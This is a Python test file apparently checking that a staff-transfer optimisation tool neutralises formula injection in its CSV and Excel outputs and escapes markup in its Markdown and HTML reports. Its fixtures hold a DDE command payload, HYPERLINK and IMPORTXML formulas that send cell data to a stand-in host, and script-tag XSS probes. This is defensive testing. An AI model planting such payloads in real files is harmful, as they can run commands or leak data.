"""Outputs: no input turns into a formula in a workbook or a CSV (issue 13, 2).

Names, titles and units carrying spreadsheet formulas go through one solve, one needs analysis and
one comparison; every workbook holds them as string cells (no ``<f>`` element anywhere) and every
CSV field a spreadsheet would evaluate starts with an apostrophe, while numbers stay numbers.
"""

from __future__ import annotations

import csv
import re
import zipfile
from pathlib import Path

import pytest
from openpyxl import load_workbook

from mutasi_opt.textsafe import neutralise_csv_text, restore_csv_text

from .kit import cli, edit_cell, tiny

# (row of employees.csv, payload) - each person gets one.
PAYLOADS = {
    2: "=1+1",
    3: '=HYPERLINK("http://x.example/"&A2,"klik")',
    4: "+SUM(1,2)",
    5: "@cmd",
    6: "-2+3",
    7: "=cmd|' /C calc'!A0",
}
UNIT = '=IMPORTXML(CONCAT("http://x.example/?",A1),"//a")'
TITLE = "\t=2*3"
LINK = "https://x.example/masuk"  # a title a spreadsheet writer could turn into a hyperlink


def _formulas(book: Path) -> list[str]:
    with zipfile.ZipFile(book) as z:
        return [
            m
            for name in z.namelist()
            if name.startswith("xl/worksheets/")
            for m in re.findall(r"<f[ >].*?</f>", z.read(name).decode("utf-8"))
        ]


@pytest.fixture(scope="module")
def folders(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
    """One run (CSVs and workbook), a second run, their comparison and a needs analysis, all over
    tables whose names, a unit and a title are formulas; the scenario is named ``=cmd``."""
    root = tmp_path_factory.mktemp("formulas")
    scenario = tiny(root, formats=("csv", "xlsx"), name="=cmd")
    for row, payload in PAYLOADS.items():
        edit_cell(root / "data" / "employees.csv", row, "name", payload)
    edit_cell(root / "data" / "positions.csv", 2, "unit", UNIT)
    edit_cell(root / "data" / "positions.csv", 3, "title", TITLE)
    edit_cell(root / "data" / "positions.csv", 4, "title", LINK)
    out = {"run": root / "run", "run2": root / "run2", "cmp": root / "cmp", "needs": root / "needs"}
    assert cli("solve", scenario, "--out", out["run"], "--quiet").exit_code == 0
    assert cli("solve", scenario, "--out", out["run2"], "--quiet").exit_code == 0
    result = cli("compare", out["run"], out["run2"], "--out", out["cmp"], "--quiet")
    assert result.exit_code == 0, result.output
    assert cli("analyze", scenario, "--out", out["needs"], "--quiet").exit_code == 0
    return out


BOOKS = ["run/report.xlsx", "run/decree.xlsx", "cmp/comparison.xlsx", "needs/needs.xlsx"]


@pytest.mark.parametrize("book", BOOKS)
def test_no_workbook_holds_a_formula(folders: dict[str, Path], book: str) -> None:
    folder, name = book.split("/")
    assert _formulas(folders[folder] / name) == []


@pytest.mark.parametrize("book", BOOKS)
def test_no_workbook_holds_a_link(folders: dict[str, Path], book: str) -> None:
    folder, name = book.split("/")
    with zipfile.ZipFile(folders[folder] / name) as z:
        texts = [z.read(n).decode("utf-8") for n in z.namelist() if n.endswith((".xml", ".rels"))]
    assert not any("<hyperlink" in t or "relationships/hyperlink" in t for t in texts)


def test_a_link_is_a_string_cell_holding_the_text(folders: dict[str, Path]) -> None:
    wb = load_workbook(folders["run"] / "report.xlsx")
    cells = [c for ws in wb for row in ws.iter_rows() for c in row if c.value == LINK]
    assert cells
    assert {c.data_type for c in cells} == {"s"}
    assert all(c.hyperlink is None for c in cells)


@pytest.mark.parametrize("payload", list(PAYLOADS.values()))
def test_a_name_is_a_string_cell_holding_the_text(folders: dict[str, Path], payload: str) -> None:
    wb = load_workbook(folders["run"] / "report.xlsx")
    cells = [c for ws in wb for row in ws.iter_rows() for c in row if c.value == payload]
    assert cells, payload
    assert {c.data_type for c in cells} == {"s"}


def test_the_scenario_name_is_text_in_the_workbook(folders: dict[str, Path]) -> None:
    wb = load_workbook(folders["run"] / "report.xlsx")
    assert wb.properties.title == "=cmd"
    assert _formulas(folders["run"] / "report.xlsx") == []


@pytest.mark.parametrize("payload", list(PAYLOADS.values()))
def test_a_name_in_assignments_csv_cannot_be_evaluated(
    folders: dict[str, Path], payload: str
) -> None:
    with (folders["run"] / "assignments.csv").open(encoding="utf-8", newline="") as handle:
        names = [row["name"] for row in csv.DictReader(handle)]
    assert "'" + payload in names
    assert payload not in names


def test_unit_and_title_are_neutralised_in_every_csv(folders: dict[str, Path]) -> None:
    text = (folders["run"] / "assignments.csv").read_text(encoding="utf-8")
    assert "'" + UNIT.replace('"', '""') in text or "'=IMPORTXML" in text
    for path in folders["run"].glob("*.csv"):
        with path.open(encoding="utf-8", newline="") as handle:
            for row in csv.reader(handle):
                for field in row:
                    assert not field.startswith(("=", "+", "@", "\t", "\r")), (path.name, field)


def test_numbers_stay_numbers_in_the_csvs(folders: dict[str, Path]) -> None:
    with (folders["run"] / "assignments.csv").open(encoding="utf-8", newline="") as handle:
        rows = list(csv.DictReader(handle))
    for row in rows:
        for column in ("score", "jpm_before", "jpm_after", "value"):
            if row[column]:
                float(row[column])  # a number, never '-0.05
    assert any(r["value"].startswith("-") or float(r["value"]) >= 0 for r in rows)


def test_the_comparison_reads_the_names_back_exactly(folders: dict[str, Path]) -> None:
    with (folders["cmp"] / "robust_core.csv").open(encoding="utf-8", newline="") as handle:
        header = next(csv.reader(handle))
    assert header[0] == "nip"
    from mutasi_opt.comparison import compare_runs

    comparison = compare_runs([folders["run"], folders["run2"]])
    names = set(comparison.runs[0].assignments["name"])
    assert set(PAYLOADS.values()) <= names


def test_the_comparison_csvs_cannot_be_evaluated(folders: dict[str, Path]) -> None:
    for path in folders["cmp"].glob("*.csv"):
        with path.open(encoding="utf-8", newline="") as handle:
            for row in csv.reader(handle):
                for field in row:
                    assert not field.startswith(("=", "+", "@", "\t")), (path.name, field)


def test_markdown_and_html_do_not_carry_raw_markup(tmp_path: Path) -> None:
    scenario = tiny(tmp_path, formats=("md", "html"))
    edit_cell(tmp_path / "data" / "employees.csv", 2, "name", "<script>alert(1)</script>")
    edit_cell(tmp_path / "data" / "employees.csv", 3, "name", "[klik](http://x.example)")
    # Every post of Disdukcapil: the unit is in the tables of moves, chains and vacancies.
    for row in (4, 5, 7):
        edit_cell(tmp_path / "data" / "positions.csv", row, "unit", "<script>alert(2)</script>")
    result = cli("solve", scenario, "--out", tmp_path / "run", "--quiet")
    assert result.exit_code == 0, result.output
    md = (tmp_path / "run" / "report.md").read_text(encoding="utf-8")
    html = (tmp_path / "run" / "report.html").read_text(encoding="utf-8")
    assert "<script>alert" not in md
    assert "<script>alert" not in html
    # The names are there, as text (not left out of the report).
    assert "&lt;script>alert(1)&lt;/script>" in md
    assert "&lt;script>alert(2)&lt;/script>" in md
    assert "&lt;script&gt;alert(2)&lt;/script&gt;" in html
    assert "[klik](http://x.example)" not in md  # not a link:
    assert "\\[klik\\](http://x.example)" in md


@pytest.mark.parametrize(
    ("text", "written"),
    [
        ("=1+1", "'=1+1"),
        ("-2+3", "'-2+3"),
        ("-3", "-3"),
        ("+0.5", "+0.5"),
        ("-", "-"),
        ("'quoted", "''quoted"),
        ("\r=1", "'\r=1"),
        ("\uff1dSUM(1)", "'\uff1dSUM(1)"),
        ("Ani Siregar", "Ani Siregar"),
    ],
)
def test_csv_neutralising_is_reversible(text: str, written: str) -> None:
    assert neutralise_csv_text(text) == written
    assert restore_csv_text(written) == text


def test_an_apostrophe_in_a_name_round_trips(tmp_path: Path) -> None:
    import pandas as pd

    from mutasi_opt.report.csvout import write_csv
    from mutasi_opt.runio import read_csv_text

    names = ["'Aisyah", "=1+1", "-2", "Budi"]
    frame = pd.DataFrame({"name": names, "value": [-0.05, 1.0, -2.0, 0.0]})
    write_csv(frame, tmp_path / "a.csv", ["name", "value"])
    text = (tmp_path / "a.csv").read_text(encoding="utf-8")
    assert text == "name,value\n''Aisyah,-0.05\n'=1+1,1\n-2,-2\nBudi,0\n"
    assert read_csv_text(tmp_path / "a.csv")["name"].tolist() == names
